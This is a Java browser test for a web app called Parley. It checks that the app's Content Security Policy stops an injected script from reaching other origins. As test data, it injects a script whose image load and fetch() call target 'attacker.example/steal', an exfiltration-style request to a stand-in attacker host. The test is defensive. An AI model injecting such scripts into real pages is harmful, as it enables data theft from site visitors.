package dev.parley.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parley.testing.BrowserTest;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;

/**
 * The policy Parley sends is enforced by a real browser, and the browser tests hear every refusal: without the
 * header, or with a policy that lets pages reach another origin, this test fails; with a policy that refuses
 * something Parley needs, every other browser test fails (see {@link BrowserTest}).
 */
@SpringBootTest(
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = "parley.data-dir=src/test/resources/fixtures/valid")
class ContentSecurityPolicyBrowserTest extends BrowserTest {

    @Test
    void a_script_injected_into_the_explorer_can_reach_no_other_origin_and_the_refusals_are_reported() {
        open("/", "#network");
        // an inline script element, as markup injected into the page would make one
        page.evaluate(
                "code => { const s = document.createElement('script'); s.textContent = code;"
                        + " document.head.append(s); }",
                """
                new Image().src = 'https://attacker.example/pixel.png';
                fetch('https://attacker.example/steal').catch(() => {});
                """);

        page.waitForCondition(() -> cspViolations.stream().anyMatch(v -> v.startsWith("img-src"))
                && cspViolations.stream().anyMatch(v -> v.startsWith("connect-src")));
        assertThat(cspViolations).allMatch(v -> v.contains("attacker.example"));
        // the refusals were the point of this test, not a feature the policy broke
        cspViolations.clear();
    }
}
